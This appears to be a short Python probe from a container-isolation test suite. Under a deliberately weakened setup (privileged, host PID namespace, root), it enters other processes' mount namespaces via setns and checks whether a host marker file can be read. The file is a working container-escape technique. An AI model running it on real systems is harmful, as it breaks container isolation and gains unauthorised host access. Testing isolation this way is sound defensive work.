"""setns into the namespaces of a process outside."""
# weakened: privileged --pid=host --user 0

import glob
import os

from inside import HOST, escaped, libc

for path in glob.glob("/proc/[0-9]*/ns/mnt"):
    try:
        descriptor = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(descriptor, 0) == 0:
        try:
            with open(HOST["file"]) as file:
                if HOST["word"] in file.read():
                    escaped(f"{path} could be entered")
        except OSError:
            continue
